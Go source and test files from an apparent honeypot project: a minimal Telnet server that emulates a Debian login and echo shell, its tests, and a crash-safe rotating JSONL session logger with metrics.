}

// Read returns decoded NVT data, transparently answering IAC
// negotiation sequences.
func (c *conn) Read(p []byte) (int, error) {
	n := 0
	for n == 0 {
		b, err := c.br.ReadByte()
		if err != nil {
			return n, err
		}
		if b != iac {
			p[n] = b
			n++
			// Drain whatever is immediately available without blocking.
			for n < len(p) && c.br.Buffered() > 0 {
				b, err = c.br.ReadByte()
				if err != nil {
					return n, err
				}
				if b == iac {
					if err := c.handleIAC(); err != nil {
						return n, err
					}
					continue
				}
				p[n] = b
				n++
			}
			return n, nil
		}
		if err := c.handleIAC(); err != nil {
			return n, err
		}
	}
	return n, nil
}

// handleIAC consumes one IAC sequence (the IAC byte itself already read)
// and refuses every option: we are a dumb NVT.
func (c *conn) handleIAC() error {
	cmd, err := c.br.ReadByte()
	if err != nil {
		return err
	}
	switch cmd {
	case do, dont:
		opt, err := c.br.ReadByte()
		if err != nil {
			return err
		}
		if cmd == do {
			_, err = c.nc.Write([]byte{iac, wont, opt})
		}
		return err
	case will, wont:
		opt, err := c.br.ReadByte()
		if err != nil {
			return err
		}
		if cmd == will {
			_, err = c.nc.Write([]byte{iac, dont, opt})
		}
		return err
	case sb:
		// Skip subnegotiation until IAC SE.
		for {
			b, err := c.br.ReadByte()
			if err != nil {
				return err
			}
			if b == iac {
				b2, err := c.br.ReadByte()
				if err != nil {
					return err
				}
				if b2 == se {
					return nil
				}
			}
		}
	case iac:
		// Escaped 0xFF data byte: rare in login flows; drop it.
		return nil
	default:
		return nil
	}
}

// Write sends data to the peer, doubling literal IAC (0xFF) bytes as
// the protocol requires.
func (c *conn) Write(p []byte) (int, error) {
	// Escape IAC bytes in output.
	start := 0
	written := 0
	for i, b := range p {
		if b == iac {
			if _, err := c.nc.Write(p[start : i+1]); err != nil {
				return written, err
			}
			if _, err := c.nc.Write([]byte{iac}); err != nil {
				return written, err
			}
			written = i + 1
			start = i + 1
		}
	}
	if start < len(p) {
		n, err := c.nc.Write(p[start:])
		return written + n, err
	}
	return written, nil
}

// readLine reads a CR/LF-terminated line, tolerating both CRLF and bare
// LF endings (and the CR NUL form some clients send).
func (c *conn) readLine() (string, error) {
	var buf []byte
	for len(buf) < 4096 {
		one := make([]byte, 1)
		if _, err := c.Read(one); err != nil {
			return string(buf), err
		}
		switch one[0] {
		case '\n':
			return string(buf), nil
		case '\r', 0:
			// swallow
		default:
			buf = append(buf, one[0])
		}
	}
	return string(buf), nil
}

// HandleConn runs the Telnet lifecycle for one connection: negotiation,
// login, handler.
func (s *Server) HandleConn(nc net.Conn) error {
	defer nc.Close()
	if s.cfg.ConnTimeout > 0 {
		_ = nc.SetDeadline(time.Now().Add(s.cfg.ConnTimeout))
	}
	c := &conn{nc: nc, br: bufio.NewReader(nc)}

	// Ask the peer to not echo locally, as BusyBox telnetd does.
	if _, err := nc.Write([]byte{iac, will, 1, iac, will, 3}); err != nil {
		return err
	}
	if s.cfg.Banner != "" {
		if _, err := io.WriteString(c, s.cfg.Banner+"\r\n"); err != nil {
			return err
		}
	}
	for try := 0; try < s.cfg.maxTries(); try++ {
		if _, err := io.WriteString(c, "login: "); err != nil {
			return err
		}
		user, err := c.readLine()
		if err != nil {
			return err
		}
		if _, err := io.WriteString(c, "Password: "); err != nil {
			return err
		}
		pass, err := c.readLine()
		if err != nil {
			return err
		}
		ok := s.cfg.Auth(user, pass)
		if s.cfg.OnAuthAttempt != nil {
			s.cfg.OnAuthAttempt(user, pass, ok)
		}
		if ok {
			s.cfg.Handler(user, c)
			return nil
		}
		if _, err := io.WriteString(c, "\r\nLogin incorrect\r\n"); err != nil {
			return err
		}
	}
	return errors.New("telnetd: too many login failures")
}
