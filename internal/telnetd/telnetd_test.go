package telnetd

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// startTelnet launches a server with an echo handler.
func startTelnet(t *testing.T, mutate func(*Config)) string {
	t.Helper()
	cfg := Config{
		Banner: "Debian GNU/Linux 11",
		Auth:   func(user, pass string) bool { return user == "root" && pass != "root" },
		Handler: func(user string, rw io.ReadWriter) {
			fmt.Fprintf(rw, "# ")
			buf := make([]byte, 256)
			var line strings.Builder
			for {
				n, err := rw.Read(buf)
				if n > 0 {
					line.WriteString(string(buf[:n]))
					if i := strings.IndexByte(line.String(), '\n'); i >= 0 {
						cmd := strings.TrimSpace(line.String()[:i])
						line.Reset()
						if cmd == "exit" {
							return
						}
						fmt.Fprintf(rw, "echo:%s\r\n# ", cmd)
					}
				}
				if err != nil {
					return
				}
			}
		},
	}
	if mutate != nil {
		mutate(&cfg)
	}
	srv, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go srv.Serve(ln) //nolint:errcheck
	return ln.Addr().String()
}

// telnetClient is a minimal test client handling IAC negotiation.
type telnetClient struct {
	nc  net.Conn
	buf bytes.Buffer
}

func dialTelnet(t *testing.T, addr string) *telnetClient {
	t.Helper()
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	t.Cleanup(func() { nc.Close() })
	return &telnetClient{nc: nc}
}

func (c *telnetClient) readUntil(t *testing.T, marker string) string {
	t.Helper()
	tmp := make([]byte, 256)
	for !strings.Contains(c.buf.String(), marker) {
		n, err := c.nc.Read(tmp)
		for i := 0; i < n; i++ {
			b := tmp[i]
			if b == 255 && i+2 < n { // IAC cmd opt: skip
				i += 2
				continue
			}
			if b < 240 {
				c.buf.WriteByte(b)
			}
		}
		if err != nil {
			t.Fatalf("read: %v (buffer %q)", err, c.buf.String())
		}
	}
	out := c.buf.String()
	c.buf.Reset()
	return out
}

func (c *telnetClient) send(t *testing.T, line string) {
	t.Helper()
	if _, err := c.nc.Write([]byte(line + "\r\n")); err != nil {
		t.Fatal(err)
	}
}

func TestLoginAndShell(t *testing.T) {
	addr := startTelnet(t, nil)
	c := dialTelnet(t, addr)
	banner := c.readUntil(t, "login: ")
	if !strings.Contains(banner, "Debian") {
		t.Errorf("banner = %q", banner)
	}
	c.send(t, "root")
	c.readUntil(t, "Password: ")
	c.send(t, "12345")
	c.readUntil(t, "# ")
	c.send(t, "uname")
	out := c.readUntil(t, "# ")
	if !strings.Contains(out, "echo:uname") {
		t.Errorf("shell echo = %q", out)
	}
}

func TestLoginFailureAndRetry(t *testing.T) {
	attempts := []string{}
	addr := startTelnet(t, func(cfg *Config) {
		cfg.OnAuthAttempt = func(user, pass string, ok bool) {
			attempts = append(attempts, fmt.Sprintf("%s/%s/%v", user, pass, ok))
		}
	})
	c := dialTelnet(t, addr)
	c.readUntil(t, "login: ")
	c.send(t, "root")
	c.readUntil(t, "Password: ")
	c.send(t, "root") // rejected
	out := c.readUntil(t, "login: ")
	if !strings.Contains(out, "Login incorrect") {
		t.Errorf("failure message = %q", out)
	}
	c.send(t, "root")
	c.readUntil(t, "Password: ")
	c.send(t, "better")
	c.readUntil(t, "# ")
	if len(attempts) != 2 || attempts[0] != "root/root/false" || attempts[1] != "root/better/true" {
		t.Errorf("attempts = %v", attempts)
	}
}

func TestMaxTriesDisconnect(t *testing.T) {
	addr := startTelnet(t, func(cfg *Config) { cfg.MaxAuthTries = 2 })
	c := dialTelnet(t, addr)
	for i := 0; i < 2; i++ {
		c.readUntil(t, "login: ")
		c.send(t, "nobody")
		c.readUntil(t, "Password: ")
		c.send(t, "nothing")
	}
	// Third read should hit connection close.
	tmp := make([]byte, 64)
	c.nc.SetReadDeadline(time.Now().Add(2 * time.Second))
	for {
		if _, err := c.nc.Read(tmp); err != nil {
			return // closed as expected
		}
	}
}

func TestIACEscapingInOutput(t *testing.T) {
	addr := startTelnet(t, func(cfg *Config) {
		cfg.Handler = func(user string, rw io.ReadWriter) {
			// Emit a literal 0xFF byte: must be doubled on the wire.
			rw.Write([]byte{0x41, 0xFF, 0x42})
		}
	})
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	// Do the login dance raw.
	raw := &telnetClient{nc: nc}
	raw.readUntil(t, "login: ")
	raw.send(t, "root")
	raw.readUntil(t, "Password: ")
	nc.Write([]byte("pw\r\n"))

	var got []byte
	tmp := make([]byte, 16)
	for !bytes.Contains(got, []byte{0x41, 0xFF, 0xFF, 0x42}) {
		n, err := nc.Read(tmp)
		got = append(got, tmp[:n]...)
		if err != nil {
			t.Fatalf("IAC byte not escaped; wire bytes: %x", got)
		}
	}
}

func TestConfigValidation(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Error("empty config must be rejected")
	}
}

func TestConnTimeout(t *testing.T) {
	addr := startTelnet(t, func(cfg *Config) { cfg.ConnTimeout = 200 * time.Millisecond })
	c := dialTelnet(t, addr)
	c.readUntil(t, "login: ")
	// Idle past the deadline.
	tmp := make([]byte, 16)
	c.nc.SetReadDeadline(time.Now().Add(3 * time.Second))
	start := time.Now()
	for {
		if _, err := c.nc.Read(tmp); err != nil {
			break
		}
	}
	if time.Since(start) > 2*time.Second {
		t.Error("server did not enforce its session timeout")
	}
}

func TestSubnegotiationSkipped(t *testing.T) {
	addr := startTelnet(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	c := &telnetClient{nc: nc}
	c.readUntil(t, "login: ")
	// IAC SB NAWS ... IAC SE wrapped around the username.
	nc.Write([]byte{255, 250, 31, 0, 80, 0, 24, 255, 240})
	nc.Write([]byte("root\r\n"))
	c.readUntil(t, "Password: ")
	nc.Write([]byte("pw\r\n"))
	out := c.readUntil(t, "# ")
	if !strings.Contains(out, "#") {
		t.Errorf("login after subnegotiation failed: %q", out)
	}
}

func TestNegotiationReplies(t *testing.T) {
	addr := startTelnet(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	// Swallow the server's own negotiation + banner first.
	buf := make([]byte, 512)
	nc.Read(buf)
	// DO ECHO must be answered WONT ECHO; WILL NAWS with DONT NAWS.
	nc.Write([]byte{255, 253, 1, 255, 251, 31})
	deadline := time.Now().Add(3 * time.Second)
	var got []byte
	for time.Now().Before(deadline) {
		n, err := nc.Read(buf)
		got = append(got, buf[:n]...)
		if bytes.Contains(got, []byte{255, 252, 1}) && bytes.Contains(got, []byte{255, 254, 31}) {
			return // both replies observed
		}
		if err != nil {
			break
		}
	}
	t.Errorf("negotiation replies missing; wire: %x", got)
}

func TestCarriageReturnNulLineEnding(t *testing.T) {
	// Some bot clients terminate lines with CR NUL instead of CRLF.
	addr := startTelnet(t, nil)
	c := dialTelnet(t, addr)
	c.readUntil(t, "login: ")
	c.nc.Write([]byte("root\r\x00\n"))
	c.readUntil(t, "Password: ")
	c.nc.Write([]byte("pw\r\n"))
	c.readUntil(t, "# ")
}

// TestConnTimeoutEnforced mirrors sshd's test of the same name: an idle
// Telnet connection must be dropped at the ConnTimeout deadline, not
// held open forever (the honeynet's 3-minute session cap).
func TestConnTimeoutEnforced(t *testing.T) {
	addr := startTelnet(t, func(cfg *Config) {
		cfg.ConnTimeout = 300 * time.Millisecond
	})
	c := dialTelnet(t, addr)
	c.readUntil(t, "login: ")
	c.send(t, "root")
	c.readUntil(t, "Password: ")
	c.send(t, "12345")
	c.readUntil(t, "# ")
	// Idle past the connection deadline: the server must drop us.
	start := time.Now()
	buf := make([]byte, 64)
	for {
		if _, err := c.nc.Read(buf); err != nil {
			break
		}
		if time.Since(start) > 3*time.Second {
			t.Fatal("expected connection teardown")
		}
	}
	if time.Since(start) > 3*time.Second {
		t.Errorf("teardown took %v", time.Since(start))
	}
}

// TestServeGateSheds: a Gate wired into Serve (e.g. a guard.Limiter)
// can shed connections before any Telnet bytes flow.
func TestServeGateSheds(t *testing.T) {
	released := make(chan struct{}, 8)
	var admit atomic.Bool
	admit.Store(true)
	addr := startTelnet(t, func(cfg *Config) {
		cfg.Gate = func(nc net.Conn) (func(), bool) {
			if !admit.Load() {
				return nil, false
			}
			return func() { released <- struct{}{} }, true
		}
	})
	c := dialTelnet(t, addr)
	c.readUntil(t, "login: ") // admitted
	c.nc.Close()
	select {
	case <-released:
	case <-time.After(5 * time.Second):
		t.Fatal("gate release never called")
	}

	admit.Store(false)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 16)
	for {
		if _, err := nc.Read(buf); err != nil {
			return // shed: closed without serving
		}
	}
}
