package sessionlog

import (
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
)

func rec(id uint64) *session.Record {
	return &session.Record{
		ID:       id,
		Start:    time.Unix(1_700_000_000, 0).UTC(),
		ClientIP: fmt.Sprintf("10.0.0.%d", id%250),
		Protocol: session.ProtoSSH,
		Commands: []session.Command{{Raw: "uname -a", Known: true}},
	}
}

func readAll(t *testing.T, path string) []*session.Record {
	t.Helper()
	var out []*session.Record
	for _, seg := range Segments(path) {
		f, err := os.Open(seg)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := session.ReadAll(f)
		f.Close()
		if err != nil {
			t.Fatalf("%s: %v", seg, err)
		}
		out = append(out, recs...)
	}
	return out
}

func TestWriteFlushRead(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	w, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i <= 10; i++ {
		if err := w.Write(rec(uint64(i))); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs := readAll(t, path)
	if len(recs) != 10 {
		t.Fatalf("read %d records, want 10", len(recs))
	}
	if w.Written() != 10 || w.Errors() != 0 {
		t.Errorf("Written=%d Errors=%d", w.Written(), w.Errors())
	}
}

func TestTornTailRecovered(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	w, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i <= 5; i++ {
		if err := w.Write(rec(uint64(i))); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	// Simulate a crash mid-append: a torn, newline-less JSON prefix.
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(`{"id":6,"start":"2023-11-1`); err != nil {
		t.Fatal(err)
	}
	f.Close()

	// Reopen: the torn tail must be truncated and every complete record
	// must survive.
	w2, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w2.Write(rec(7)); err != nil {
		t.Fatal(err)
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	recs := readAll(t, path)
	if len(recs) != 6 {
		t.Fatalf("read %d records, want 6 (5 old + 1 new)", len(recs))
	}
	if recs[4].ID != 5 || recs[5].ID != 7 {
		t.Errorf("tail records = %d, %d; want 5, 7", recs[4].ID, recs[5].ID)
	}
}

func TestTornTailInvalidJSONLineDropped(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	// A complete-looking line that is not valid JSON (e.g. a partially
	// flushed buffer that happened to end in "\n") must also be dropped.
	if err := os.WriteFile(path, []byte(`{"id":1,"start":"2023-11-14T00:00:00Z","client_ip":"a","proto":"ssh"}`+"\n"+`{"id":2,"tr`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dropped, err := RecoverTail(path)
	if err != nil {
		t.Fatal(err)
	}
	if dropped == 0 {
		t.Fatal("expected bytes dropped")
	}
	recs := readAll(t, path)
	if len(recs) != 1 || recs[0].ID != 1 {
		t.Fatalf("recs = %+v", recs)
	}
}

func TestRecoverTailMissingAndEmpty(t *testing.T) {
	dir := t.TempDir()
	if n, err := RecoverTail(filepath.Join(dir, "absent.jsonl")); err != nil || n != 0 {
		t.Fatalf("missing file: %d, %v", n, err)
	}
	empty := filepath.Join(dir, "empty.jsonl")
	if err := os.WriteFile(empty, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if n, err := RecoverTail(empty); err != nil || n != 0 {
		t.Fatalf("empty file: %d, %v", n, err)
	}
}

func TestRotationUnderConcurrentWrites(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	// Tiny segments force many rotations while 8 writers hammer the log.
	w, err := Open(path, Options{MaxSize: 4 << 10})
	if err != nil {
		t.Fatal(err)
	}
	const writers, per = 8, 100
	var wg sync.WaitGroup
	for g := 0; g < writers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				if err := w.Write(rec(uint64(g*per + i + 1))); err != nil {
					t.Errorf("write: %v", err)
				}
			}
		}(g)
	}
	wg.Wait()
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if w.Rotations() == 0 {
		t.Fatal("expected at least one rotation")
	}
	recs := readAll(t, path)
	if len(recs) != writers*per {
		t.Fatalf("read %d records across segments, want %d", len(recs), writers*per)
	}
	seen := map[uint64]bool{}
	for _, r := range recs {
		if seen[r.ID] {
			t.Fatalf("duplicate record %d", r.ID)
		}
		seen[r.ID] = true
	}
}

func TestRotationIndexSurvivesReopen(t *testing.T) {
	path := filepath.Join(t.TempDir(), "s.jsonl")
	for round := 0; round < 3; round++ {
		w, err := Open(path, Options{MaxSize: 256})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 10; i++ {
			if err := w.Write(rec(uint64(round*10 + i + 1))); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	recs := readAll(t, path)
	if len(recs) != 30 {
		t.Fatalf("read %d records, want 30 — a restart overwrote a sealed segment", len(recs))
	}
}

// failWriter fails every write after the first n bytes.
type failWriter struct {
	n int
}

func (f *failWriter) Write(p []byte) (int, error) {
	if f.n <= 0 {
		return 0, fmt.Errorf("disk full")
	}
	f.n -= len(p)
	return len(p), nil
}

func TestStreamWriteErrorsCounted(t *testing.T) {
	w := NewStream(&failWriter{n: 0})
	for i := 0; i < 3; i++ {
		_ = w.Write(rec(uint64(i + 1)))
	}
	// Buffered: errors surface at flush time at the latest.
	_ = w.Flush()
	if w.Errors() == 0 {
		t.Fatal("write errors must be counted, not swallowed")
	}
}

func TestWriteAfterCloseFails(t *testing.T) {
	path := filepath.Join(t.TempDir(), "s.jsonl")
	w, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(rec(1)); err == nil {
		t.Fatal("write after close must fail")
	}
	if w.Errors() != 1 {
		t.Errorf("Errors = %d, want 1", w.Errors())
	}
	if err := w.Close(); err != nil {
		t.Errorf("double close: %v", err)
	}
}

func TestPeriodicSyncFlushesIdleData(t *testing.T) {
	path := filepath.Join(t.TempDir(), "s.jsonl")
	w, err := Open(path, Options{SyncEvery: 20 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := w.Write(rec(1)); err != nil {
		t.Fatal(err)
	}
	// Without any Flush call the background sync must land the record.
	deadline := time.Now().Add(2 * time.Second)
	for {
		st, err := os.Stat(path)
		if err == nil && st.Size() > 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatal("record never reached disk via periodic sync")
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// TestSnapshotTrailerRoundTrip: a drain-time metrics snapshot lands in
// the log, session.ReadAll skips it, and ReadSnapshots recovers it.
func TestSnapshotTrailerRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	w, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(rec(1)); err != nil {
		t.Fatal(err)
	}
	snap := Snapshot{
		Time:   time.Unix(1_700_000_123, 0).UTC(),
		Reason: "drain",
		Metrics: map[string]float64{
			`honeynet_node_connections_total{proto="ssh"}`: 7,
			"honeynet_sessionlog_written_total":            1,
		},
	}
	if err := w.WriteSnapshot(snap); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(rec(2)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if got := w.Written(); got != 2 {
		t.Errorf("Written = %d, want 2 (trailers are not records)", got)
	}

	// Records load as before, trailer invisible.
	recs := readAll(t, path)
	if len(recs) != 2 || recs[0].ID != 1 || recs[1].ID != 2 {
		t.Fatalf("records = %d, want the 2 session records", len(recs))
	}

	// The snapshot is recoverable for post-mortems.
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	snaps, err := ReadSnapshots(f)
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) != 1 {
		t.Fatalf("snapshots = %d, want 1", len(snaps))
	}
	got := snaps[0]
	if !got.Time.Equal(snap.Time) || got.Reason != "drain" {
		t.Errorf("snapshot header = %+v", got)
	}
	if got.Metrics[`honeynet_node_connections_total{proto="ssh"}`] != 7 {
		t.Errorf("snapshot metrics = %v", got.Metrics)
	}
}

// TestTrailerSurvivesTornTailRecovery: a torn write after a trailer
// truncates back to the trailer line, keeping it valid.
func TestTrailerSurvivesTornTailRecovery(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	w, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(rec(1)); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteSnapshot(Snapshot{Reason: "drain"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	// Simulate a crash mid-append after the trailer.
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(`{"id":99,"torn`); err != nil {
		t.Fatal(err)
	}
	f.Close()

	w2, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	if w2.Recovered() == 0 {
		t.Error("expected Recovered > 0 after torn tail")
	}
	rf, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer rf.Close()
	snaps, err := ReadSnapshots(rf)
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) != 1 || snaps[0].Reason != "drain" {
		t.Fatalf("snapshots after recovery = %+v", snaps)
	}
}

// TestParseSize covers the human size grammar.
func TestParseSize(t *testing.T) {
	cases := []struct {
		in   string
		want int64
		err  bool
	}{
		{"", 0, false},
		{"0", 0, false},
		{"1048576", 1 << 20, false},
		{"256MB", 256 << 20, false},
		{"64m", 64 << 20, false},
		{"1GiB", 1 << 30, false},
		{"2k", 2 << 10, false},
		{"10B", 10, false},
		{"-1", 0, true},
		{"huge", 0, true},
	}
	for _, c := range cases {
		got, err := ParseSize(c.in)
		if (err != nil) != c.err || got != c.want {
			t.Errorf("ParseSize(%q) = %d, %v; want %d, err=%v", c.in, got, err, c.want, c.err)
		}
	}
}

// TestWriterRegister: the writer's counters are scrapeable.
func TestWriterRegister(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sessions.jsonl")
	w, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	reg := obs.NewRegistry()
	w.Register(reg)
	if err := w.Write(rec(1)); err != nil {
		t.Fatal(err)
	}
	snap := reg.Snapshot()
	if snap["honeynet_sessionlog_written_total"] != 1 {
		t.Errorf("snapshot = %v", snap)
	}
}
