// Package sessionlog is the crash-safe JSONL session store for a
// long-running honeypot: buffered appends with periodic fsync,
// size-based rotation, torn-tail recovery on reopen, and an error
// counter so a full disk is visible in metrics instead of silently
// eating months of sessions. The on-disk format is exactly the JSONL
// of internal/session — every rotated segment loads with
// session.ReadAll.
package sessionlog

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
)

// Options parameterizes a file-backed Writer.
type Options struct {
	// MaxSize rotates the log when appending a record would push the
	// current segment past this many bytes. Zero disables rotation.
	MaxSize int64
	// SyncEvery is the fsync cadence: a background ticker flushes and
	// syncs dirty data at this interval. Zero means one second; a
	// negative value disables periodic sync (Flush/Close still sync).
	SyncEvery time.Duration
	// BufSize is the write-buffer size; zero means 256 KiB.
	BufSize int
}

func (o *Options) syncEvery() time.Duration {
	if o.SyncEvery == 0 {
		return time.Second
	}
	return o.SyncEvery
}

func (o *Options) bufSize() int {
	if o.BufSize > 0 {
		return o.BufSize
	}
	return 256 << 10
}

// Writer appends session records as JSON lines. All methods are safe
// for concurrent use.
type Writer struct {
	mu     sync.Mutex
	f      *os.File      // nil in stream mode
	w      io.Writer     // underlying stream (stream mode only)
	bw     *bufio.Writer // over f or w
	path   string
	opts   Options
	size   int64 // current segment size including buffered bytes
	rotIdx int   // next rotation suffix
	dirty  bool
	closed bool

	errs      atomic.Int64
	rotations atomic.Int64
	written   atomic.Int64
	recovered atomic.Int64

	stop chan struct{} // closes the sync loop; nil if none
	done chan struct{}
}

// Open opens (creating if needed) the JSONL log at path, recovering a
// torn tail left by a crash: any trailing partial or corrupt line is
// truncated away so the file ends on a complete record boundary.
func Open(path string, opts Options) (*Writer, error) {
	dropped, err := RecoverTail(path)
	if err != nil {
		return nil, err
	}
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	w := &Writer{
		f:      f,
		bw:     bufio.NewWriterSize(f, opts.bufSize()),
		path:   path,
		opts:   opts,
		size:   st.Size(),
		rotIdx: nextRotIndex(path),
	}
	w.recovered.Store(dropped)
	if opts.syncEvery() > 0 {
		w.stop = make(chan struct{})
		w.done = make(chan struct{})
		go w.syncLoop(opts.syncEvery())
	}
	return w, nil
}

// NewStream returns a Writer over an arbitrary stream (e.g. stdout):
// buffered, no rotation, no fsync, but the same error accounting.
func NewStream(out io.Writer) *Writer {
	return &Writer{w: out, bw: bufio.NewWriterSize(out, (&Options{}).bufSize())}
}

// Errors returns the number of failed writes (marshal, I/O, or
// rotation failures). Each failed Write increments it exactly once.
func (w *Writer) Errors() int64 { return w.errs.Load() }

// Rotations returns how many segments have been rotated out.
func (w *Writer) Rotations() int64 { return w.rotations.Load() }

// Written returns the number of records successfully buffered.
func (w *Writer) Written() int64 { return w.written.Load() }

// Recovered returns the number of torn-tail bytes truncated away when
// the log was opened.
func (w *Writer) Recovered() int64 { return w.recovered.Load() }

// Path returns the live segment path ("" in stream mode).
func (w *Writer) Path() string { return w.path }

// Register exposes the writer's counters on reg:
//
//	honeynet_sessionlog_written_total
//	honeynet_sessionlog_rotations_total
//	honeynet_sessionlog_errors_total
//	honeynet_sessionlog_recovered_bytes
func (w *Writer) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_sessionlog_written_total",
		"Session records successfully buffered to the log.", w.Written)
	reg.CounterFunc("honeynet_sessionlog_rotations_total",
		"Log segments rotated out.", w.Rotations)
	reg.CounterFunc("honeynet_sessionlog_errors_total",
		"Failed session-log writes (marshal, I/O, or rotation failures).", w.Errors)
	reg.GaugeFunc("honeynet_sessionlog_recovered_bytes",
		"Torn-tail bytes truncated away when the log was opened.",
		func() float64 { return float64(w.Recovered()) })
}

// lineScratch pools encode buffers so Write's marshal step allocates
// nothing in steady state.
var lineScratch = sync.Pool{New: func() any { b := make([]byte, 0, 1024); return &b }}

// Write appends one record. Records are marshaled with the shared
// canonical encoder (session.AppendJSON), so the log's bytes are
// identical to what encoding/json would produce — and to what
// internal/store writes for the same record.
func (w *Writer) Write(r *session.Record) error {
	bp := lineScratch.Get().(*[]byte)
	line, err := session.AppendJSON((*bp)[:0], r)
	if err != nil {
		lineScratch.Put(bp)
		w.errs.Add(1)
		return fmt.Errorf("sessionlog: marshal: %w", err)
	}
	err = w.appendLine(line)
	*bp = line[:0]
	lineScratch.Put(bp)
	if err != nil {
		return err
	}
	w.written.Add(1)
	return nil
}

// appendLine appends one already-marshaled JSON line (without the
// trailing newline), rotating first if needed.
func (w *Writer) appendLine(line []byte) error {
	line = append(line, '\n')
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.closed {
		w.errs.Add(1)
		return fmt.Errorf("sessionlog: writer closed")
	}
	if w.f != nil && w.opts.MaxSize > 0 && w.size > 0 && w.size+int64(len(line)) > w.opts.MaxSize {
		if err := w.rotateLocked(); err != nil {
			w.errs.Add(1)
			return fmt.Errorf("sessionlog: rotate: %w", err)
		}
	}
	if _, err := w.bw.Write(line); err != nil {
		w.errs.Add(1)
		return fmt.Errorf("sessionlog: write: %w", err)
	}
	w.size += int64(len(line))
	w.dirty = true
	return nil
}

// Snapshot is the operational-counter trailer recorded into the session
// log when a node drains: a post-mortem of a long run keeps its
// counters next to its sessions. On disk it is one JSONL line of the
// form {"_obs":{...}} — session.ReadAll skips such lines (see
// session.IsObsTrailer), so datasets with trailers load unchanged.
type Snapshot struct {
	// Time is when the snapshot was taken.
	Time time.Time `json:"time"`
	// Reason says why ("drain", "rotate", ...).
	Reason string `json:"reason,omitempty"`
	// Metrics is the flattened obs registry (obs.Registry.Snapshot).
	Metrics map[string]float64 `json:"metrics"`
}

// trailerLine is the on-disk envelope. The _obs field marshals first,
// which is what session.IsObsTrailer keys on.
type trailerLine struct {
	Obs *Snapshot `json:"_obs"`
}

